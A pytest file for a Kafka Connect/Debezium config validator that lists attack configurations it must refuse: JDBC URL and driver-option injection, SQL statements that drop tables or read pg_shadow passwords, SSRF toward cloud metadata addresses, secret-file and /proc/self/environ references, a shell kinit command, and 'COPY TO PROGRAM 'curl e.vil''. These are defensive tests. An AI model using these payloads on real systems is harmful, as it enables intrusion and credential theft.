"""More ways to attack the Connect worker: by the form of URLs, references, statements and nested keys."""

import json
from pathlib import Path

import pytest

from connectors.preset import (
    MARIADB_CLASS,
    MONGODB_CLASS,
    MYSQL_CLASS,
    NEVER_ACCEPTED,
    SQLSERVER_CLASS,
    violations,
)
from connectors.spec import read_spec
from tests.unit.connect_world import shop_config

TIMESCALE = {
    "transforms": "t",
    "transforms.t.type": "io.debezium.connector.postgresql.transforms.timescaledb.TimescaleDb",
}
BEAT = "INSERT INTO public.debezium_heartbeat (name)"
LOGIN = "org.apache.kafka.common.security.plain.PlainLoginModule required"


def mongo(connection: str) -> dict[str, str]:
    return {"connector.class": MONGODB_CLASS, "mongodb.connection.string": connection}


def beat(statement: str) -> dict[str, str]:
    return {"heartbeat.action.query": statement}


def initial(statements: str) -> dict[str, str]:
    return {"database.initial.statements": statements}


def override(statement: str) -> dict[str, str]:
    key = "snapshot.select.statement.overrides"
    return {key: "public.articles", f"{key}.public.articles": statement}


ATTACKS: dict[str, tuple[str, dict[str, str]]] = {
    # The URL of the driver
    "the whole URL as its protocol": (
        "client-door",
        {
            "connector.class": MYSQL_CLASS,
            "database.protocol": "jdbc:mysql: //e.vil:3306/?allowLoadLocalInfile=true#",
        },
    ),
    "another database's URL": (
        "client-door",
        {"connector.class": MARIADB_CLASS, "database.protocol": "jdbc:mysql"},
    ),
    "a protocol where there is none": ("client-door", {"database.protocol": "jdbc:postgresql"}),
    "a protocol by reference": (
        "client-door",
        {"connector.class": MYSQL_CLASS, "database.protocol": "${file:/secrets/a:protocol}"},
    ),
    "options in the time to connect": (
        "injection",
        {"connector.class": MYSQL_CLASS, "driver.connectTimeout": "1&allowLoadLocalInfile=true"},
    ),
    "options in the time zone": (
        "injection",
        {"connector.class": MYSQL_CLASS, "database.connectionTimeZone": "UTC&autoDeserialize=true"},
    ),
    "a trust store on another host": (
        "injection",
        {"connector.class": MYSQL_CLASS, "database.ssl.truststore": "//e.vil/store"},
    ),
    "a property of the driver as a part of the URL": ("injection", {"database.dbname": "${password}"}),
    # References of providers that the worker does not have
    "options in a reference": (
        "injection",
        {"database.dbname": "${x:shop?socketFactory=org.evil.Factory&a=}"},
    ),
    "options in the port's reference": ("injection", {"database.port": "${x:5432/x?sslmode=disable}"}),
    "hosts in a reference": ("host", {"database.hostname": "${x:5432,169.254.169.254:80,b}"}),
    "a host behind a user in a reference": (
        "host",
        {"connector.class": MYSQL_CLASS, "database.hostname": "${x:y@169.254.169.254:80/z}"},
    ),
    "brokers in a reference": (
        "host",
        {"schema.history.internal.kafka.bootstrap.servers": "${x:a,e.vil:9092,b}"},
    ),
    "a second login module in a reference": (
        "client-door",
        {
            "schema.history.internal.producer.sasl.jaas.config": (
                f'{LOGIN} username="a" password="${{x:y"; org.evil.LoginModule required a="}}";'
            )
        },
    ),
    "a reference within a reference": ("injection", {"database.user": "${${lower:f}ile:/secrets/a:b}"}),
    # Transforms
    "a transform with a connection of its own": ("class", TIMESCALE),
    "a transform that reports to a file's address": (
        "class",
        {"transforms": "o", "transforms.o.type": "io.debezium.transforms.openlineage.OpenLineage"},
    ),
    "a transform of Kafka's package that Kafka does not bring": (
        "class",
        {"transforms": "x", "transforms.x.type": "org.apache.kafka.connect.transforms.Evil"},
    ),
    "a predicate of Kafka's package that Kafka does not bring": (
        "class",
        {"predicates": "x", "predicates.x.type": "org.apache.kafka.connect.transforms.predicates.Evil"},
    ),
    "a converter of Debezium's package that Debezium does not bring": (
        "class",
        {"converters": "x", "x.type": "io.debezium.connector.binlog.converters.Evil"},
    ),
    "a socket factory of a transform": (
        "client-door",
        {**TIMESCALE, "transforms.t.driver.socketFactory": "org.evil.Factory"},
    ),
    "driver options in a transform's database": (
        "injection",
        {**TIMESCALE, "transforms.t.database.dbname": "shop?socketFactory=org.evil.Factory"},
    ),
    "a program by a transform's connection": (
        "injection",
        {**TIMESCALE, "transforms.t.database.initial.statements": "COPY x TO PROGRAM 'curl e.vil'"},
    ),
    "the same under an alias with a dot": (
        "injection",
        {
            "transforms": "a.b",
            "transforms.a.b.type": "org.apache.kafka.connect.transforms.DropHeaders",
            "transforms.a.b.database.initial.statements": "SET ROLE postgres",
        },
    ),
    "the same under an alias that no list names": (
        "client-door",
        {"transforms.t.driver.socketFactory": "org.evil.Factory"},
    ),
    "a transform of somebody else under an alias with a dot": (
        "class",
        {"transforms": "a.b", "transforms.a.b.type": "org.evil.transform"},
    ),
    "aliases of which one holds the other": (
        "class",
        {"transforms": "a,a.database", "transforms.a.database.socketFactory": "org.evil.Factory"},
    ),
    "an alias with a space that is none": ("class", {"converters": "b\u00a0", "b\u00a0.type": "org.evil.c"}),
    "aliases that only the worker knows": (
        "class",
        {"converters": "${file:/x:names}", "b.type": "org.evil.c"},
    ),
    "a class that only the worker knows": ("class", {"converters": "b", "b.type": "${file:/x:class}"}),
    # MongoDB's connection string
    "a host behind a sign that ends nothing": ("host", mongo("mongodb://db.example#@169.254.169.254:80/")),
    "the same with a question mark": ("host", mongo("mongodb://db.example?@169.254.169.254:80/x")),
    "the same, percent-encoded": ("host", mongo("mongodb://%31%36%39.254.169.254:80/")),
    "a user in the connection string": ("host", mongo("mongodb://debezium@db.example:27017/")),
    "a login that asks the cloud": (
        "host",
        mongo("mongodb://db.example/?authMechanism=MONGODB-OIDC&authMechanismProperties=ENVIRONMENT:azure"),
    ),
    "the same without its properties": ("host", mongo("mongodb://db.example/?AuthMechanism=MONGODB-AWS")),
    "the same, percent-encoded and behind a semicolon": (
        "host",
        mongo("mongodb://db.example/?w=1;authmechanism=MONGODB%2DAWS"),
    ),
    "a proxy": ("host", mongo("mongodb://db.example/?proxyHost=169.254.169.254")),
    "a connection string that is spelt otherwise": ("host", mongo("MongoDB://db.example#@e.vil/")),
    # Statements
    "a slot that is dropped at each heartbeat": (
        "injection",
        beat(f"{BEAT} SELECT pg_drop_replication_slot('x')::text"),
    ),
    "passwords into the heartbeat": ("injection", beat(f"{BEAT} SELECT passwd FROM pg_shadow")),
    "a query as a value": ("injection", beat(f"{BEAT} VALUES ((SELECT passwd FROM pg_shadow))")),
    "a function as a value": ("injection", beat(f"{BEAT} VALUES (pg_switch_wal())")),
    "a table whose name is written in numbers": (
        "injection",
        beat("INSERT INTO U&\"heartbeat!0073\" UESCAPE '!' (a) VALUES (1)"),
    ),
    "rights at each heartbeat": ("injection", beat("UPDATE public.users SET is_admin = true")),
    "the same in a schema for beats": ("injection", beat("UPDATE heartbeat.users SET is_admin = true")),
    "the same in a table with a word like it": ("injection", beat("UPDATE shop.tickets SET price = 0")),
    "a name that another database ends elsewhere": (
        "injection",
        beat("UPDATE beat SET a = [b'c] , d = ['; DROP TABLE x; --]"),
    ),
    "a text with escapes": ("injection", beat(r"UPDATE beat SET a = E'\'; DROP TABLE x; --'")),
    "another role of the session": ("injection", initial("SET SESSION ROLE postgres")),
    "another login of the session": ("injection", initial("SET SESSION SESSION AUTHORIZATION postgres")),
    "half of each row in the binlog": ("injection", initial("SET @@global.binlog_row_image = MINIMAL")),
    "nothing in the binlog": ("injection", initial("SET sql_log_bin = 0")),
    "the same behind a harmless one": ("injection", initial("SET wait_timeout = 1, sql_log_bin = 0")),
    "other tables by their search path": ("injection", initial("SET search_path = evil, pg_catalog")),
    "no triggers": ("injection", initial("SET session_replication_role = replica")),
    "a slot that is dropped by a snapshot": (
        "injection",
        override("SELECT pg_drop_replication_slot('x') FROM public.articles"),
    ),
    "the same in quotes": ("injection", override('SELECT "pg_switch_wal"() FROM public.articles')),
    "the same in numbers": ("injection", override("SELECT U&\"!0070g_switch_wal\" UESCAPE '!' ()")),
    "any function": ("injection", override("SELECT setval('public.ids', 1) FROM public.articles")),
    "a function of somebody's schema": (
        "injection",
        override("SELECT evil.lower(title) FROM public.articles"),
    ),
    "a function whose name ends in another script": (
        "injection",
        override("SELECT evil\u2192(title) FROM public.articles"),
    ),
    "a function with a space in its name": (
        "injection",
        override("SELECT x\u00a0in (1) FROM public.articles"),
    ),
    "a function between names with quotes": (
        "injection",
        override('SELECT "a\'b", pg_switch_wal(), "c\'d" FROM public.articles'),
    ),
    "the same for MySQL": ("injection", override("SELECT `a'b`, sleep(9), `c'd` FROM articles")),
    "the same for SQL Server": ("injection", override("SELECT [a'b], evil(), [c'd] FROM articles")),
    "a name whose quote is not ended": (
        "injection",
        override("SELECT a\" FROM b UNION SELECT 'x', \"y FROM c"),
    ),
    "passwords by a snapshot": ("injection", override("SELECT passwd AS title FROM pg_shadow")),
    "a second statement without a semicolon": (
        "injection",
        override("SELECT * FROM articles UPDATE users SET is_admin = 1"),
    ),
    "a statement as the publication's name": (
        "injection",
        {"publication.name": "x'; DROP TABLE public.articles; --"},
    ),
    "a statement as the slot's name": ("injection", {"slot.name": "x'); DROP TABLE public.articles; --"}),
    "a statement as the signal table": (
        "injection",
        {"signal.data.collection": "public.a VALUES (1); DROP TABLE b; --"},
    ),
    "a statement as a replica identity": (
        "injection",
        {"replica.identity.autoset.values": "public.a:INDEX i; DROP TABLE b"},
    ),
    "a program in MongoDB's pipeline": (
        "injection",
        {"cursor.pipeline": '[{"$match": {"$expr": {"$function": {"body": "while (true) {}"}}}}]'},
    ),
    "the same in a filter, and escaped": (
        "injection",
        {"snapshot.collection.filter.overrides.shop.a": '{"\\u0024where": "sleep(1000)"}'},
    ),
    # Secrets in sight
    "a secret as the placeholder": (
        "exfiltration",
        {"unavailable.value.placeholder": "${file:/secrets/a:password}"},
    ),
    "a secret as the topic of notifications": (
        "exfiltration",
        {"notification.sink.topic.name": "${file:/secrets/a:password}"},
    ),
    "a secret as a group": ("exfiltration", {"signal.kafka.groupId": "${file:/secrets/a:password}"}),
    "a secret as the name of a field": (
        "exfiltration",
        {"field.renames": "shop.articles.title:${file:/secrets/a:password}"},
    ),
    "a secret as the name of the session": (
        "exfiltration",
        {"driver.ApplicationName": "${file:/secrets/a:password}"},
    ),
    "a secret as an option of a converter": (
        "exfiltration",
        {
            "converters": "b",
            "b.type": "io.debezium.connector.binlog.converters.TinyIntOneToBooleanConverter",
            "b.selector": "${file:/secrets/a:password}",
        },
    ),
    "the worker's environment by a dot": (
        "exfiltration",
        {"database.password": "${file:/./proc/self/environ:X}"},
    ),
    "the same without a slash": ("exfiltration", {"database.password": "${file:proc/self/environ:X}"}),
    "the same by another provider": ("exfiltration", {"database.password": "${p:proc/self/environ:X}"}),
    "the same by many slashes": ("exfiltration", {"database.password": "${p:///proc//self/environ:X}"}),
    "a folder of the process": ("exfiltration", {"database.password": "${dir:/proc/self:environ}"}),
    "a way up at the end": ("exfiltration", {"database.password": "${dir:/secrets:..}"}),
    "the worker's account in the cluster": (
        "exfiltration",
        {"database.password": "${dir:/var/run/secrets/kubernetes.io/serviceaccount:token}"},
    ),
    # Doors
    "a command at login": (
        "client-door",
        {"producer.override.sasl.kerberos.kinit.cmd": "/bin/sh -c id"},
    ),
    "classes that share out partitions": (
        "client-door",
        {"schema.history.internal.consumer.partition.assignment.strategy": "org.evil.Assignor"},
    ),
    "options of shards": (
        "client-door",
        {"mongodb.connection.string.shard.params": "authMechanism=MONGODB-AWS"},
    ),
    "another topic of offsets": ("client-door", {"offsets.storage.topic": "other"}),
    "another publication by the slot": ("client-door", {"slot.stream.params": "publication_names=other"}),
    "another publication behind a harmless option": (
        "client-door",
        {"slot.stream.params": "messages=true; publication_names=other"},
    ),
    # Addresses
    "Amazon's metadata by name": ("host", {"database.hostname": "instance-data.ec2.internal"}),
    "Azure's metadata by name": ("host", {"database.hostname": "metadata.azure.internal"}),
    "Amazon's credentials of pods": ("host", {"database.hostname": "fd00:ec2::23"}),
    "metadata by a translated address": ("host", {"database.hostname": "64:ff9b::a9fe:a9fe"}),
    "metadata by a network's own translation": ("host", {"database.hostname": "64:ff9b:1::a9fe:a9fe"}),
    "metadata by a compatible address": ("host", {"database.hostname": "::169.254.169.254"}),
    "metadata by a name in hex": ("host", {"database.hostname": "a9fe-a9fe.sslip.io"}),
    "metadata in digits of another script": (
        "host",
        {"database.hostname": "\uff11\uff16\uff19.254.169.254"},
    ),
    "a broker behind a path": (
        "host",
        {"schema.history.internal.kafka.bootstrap.servers": "ssl://k1:9092/,169.254.169.254:80"},
    ),
    "a host behind a backslash": ("host", {"some.url": "http://169.254.169.254\\@db.example/"}),
    # Text
    "a line break of another code": ("injection", {"database.user": "debezium\u0085X"}),
    "the last control character": ("injection", {"database.user": "debezium\u009f"}),
    "a text that is written backwards": ("injection", {"database.user": "debezium\u202ex"}),
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_refused_and_no_reason_waives_it(attack: str) -> None:
    rule, changed = ATTACKS[attack]
    config = {**shop_config(), **changed}
    found = violations(config, {*NEVER_ACCEPTED, rule})
    about = {(violation.rule, violation.key) for violation in found}
    assert {(rule, key) for key in changed} & about, attack


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_refused_in_a_file_of_connects_own_form(attack: str, tmp_path: Path) -> None:
    rule, changed = ATTACKS[attack]
    file = tmp_path / "attack.json"
    file.write_text(json.dumps({"name": "shop", "config": {**shop_config(), **changed}}))
    assert rule in {violation.rule for violation in read_spec(file).violations()}


@pytest.mark.parametrize(
    "connection",
    [
        "mongodb://db.example#@e.vil:27017/",
        "mongodb://db.example#,e.vil:27017/?x=y",
        "mongodb://db.example?@e.vil:27017/x",
        "mongodb://db.example:27017,e.vil:27017/?replicaSet=rs0",
    ],
)
def test_a_connection_string_hides_no_host_from_the_list(connection: str) -> None:
    found = violations({**shop_config(), **mongo(connection)}, hosts=["db.example"])
    assert ("host", "mongodb.connection.string") in {(one.rule, one.key) for one in found}


@pytest.mark.parametrize(
    "changed",
    [
        {"connector.class": MYSQL_CLASS, "database.protocol": "jdbc:mysql"},
        {"connector.class": MARIADB_CLASS, "database.protocol": "jdbc:mariadb"},
        {"connector.class": MYSQL_CLASS, "database.connectionTimeZone": "Europe/Berlin"},
        {"connector.class": MYSQL_CLASS, "database.ssl.truststore": "/etc/connect/trust store.jks"},
        {"connector.class": SQLSERVER_CLASS, "database.names": "shop,Reports_2"},
        {"database.hostname": "db1.example,db2.example:5433"},
        {"database.hostname": "[fd12::1]"},
        {"database.hostname": "${secrets:tailrace/shop-database:host}"},
        {"database.dbname": "${vault:dev/data/shop:database}"},
        {"database.port": "$${env:DB_PORT}"},
        {"slot.max.retries": "${env:RETRIES}", "snapshot.max.threads": "${env:THREADS}"},
        {"database.password": "${vault:dev/data/shop:password}"},
        {"database.password": "${dir:/var/run/secrets/shop:password}"},
        {"topic.prefix": "shop", "slot.stream.params": "messages=true;origin=none"},
        {
            "transforms": "at,a.b",
            "transforms.at.type": "org.apache.kafka.connect.transforms.TimestampConverter$Value",
            "transforms.at.target.type": "Timestamp",
            "transforms.a.b.type": "org.apache.kafka.connect.transforms.InsertHeader",
        },
        {
            "transforms": "database",
            "transforms.database.type": "org.apache.kafka.connect.transforms.RegexRouter",
            "transforms.database.regex": r"(.*)\.public\.(.*)",
        },
        mongo("mongodb://a.example:27017,b.example/shop?replicaSet=rs0&authSource=admin&tls=true"),
        mongo("mongodb+srv://db.example/?authMechanism=SCRAM-SHA-256&readPreferenceTags=dc:ny,rack:1"),
        {
            "publication.name": "Shop-2 all",
            "slot.name": "shop_2",
            "signal.data.collection": 'public."Signals"',
        },
        {"replica.identity.autoset.values": r"public\.a.*:FULL,public\.b:INDEX b_pkey"},
        {"connector.class": MONGODB_CLASS, "cursor.pipeline": '[{"$match": {"fullDocument.kind": "a"}}]'},
        beat("INSERT INTO public.debezium_heartbeat (name) VALUES ('a') ON CONFLICT DO NOTHING"),
        beat("INSERT INTO hb (id, at) VALUES (1, NOW(6)) AS new ON DUPLICATE KEY UPDATE at = new.at"),
        beat("INSERT INTO hb (id, at) VALUES (1, NOW()) ON DUPLICATE KEY UPDATE at = VALUES(at)"),
        beat("INSERT INTO \"Ops\".\"HeartBeat\" VALUES ('it''s; fine', CURRENT_TIMESTAMP)"),
        beat("update [dbo].[heartbeat] set [n] = [n] + 1, ts = GETDATE() where id = 1 and host <> 'x'"),
        beat("INSERT INTO test_heartbeat_table (text) VALUES ('test_heartbeat')"),
        initial("SET SESSION wait_timeout = 2000; SET NAMES utf8mb4; SET time_zone = '+00:00'"),
        initial("SET LOCK_TIMEOUT 5000;SET TRANSACTION ISOLATION LEVEL READ COMMITTED;"),
        initial("SET TIME ZONE 'Europe/Berlin'; SET application_name TO tailrace"),
    ],
)
def test_what_people_need_is_no_attack(changed: dict[str, str]) -> None:
    found = violations({**shop_config(), **changed})
    assert [one for one in found if one.rule in NEVER_ACCEPTED] == []


@pytest.mark.parametrize(
    "statement",
    [
        "SELECT * FROM public.articles WHERE NOT deleted ORDER BY id DESC",
        "SELECT id, coalesce(title, '') AS title FROM public.articles WHERE id IN (1, 2) AND at > now()",
        "SELECT id, title::varchar(10), (id+1) AS b, lower( title) FROM public.articles WHERE (id>0)",
        "SELECT b.* FROM [dbo].[articles] b JOIN kept k ON (k.id = b.id)",
    ],
)
def test_a_snapshot_may_read_a_part_of_a_table(statement: str) -> None:
    assert {one.rule for one in violations({**shop_config(), **override(statement)})} == {"partial-snapshot"}
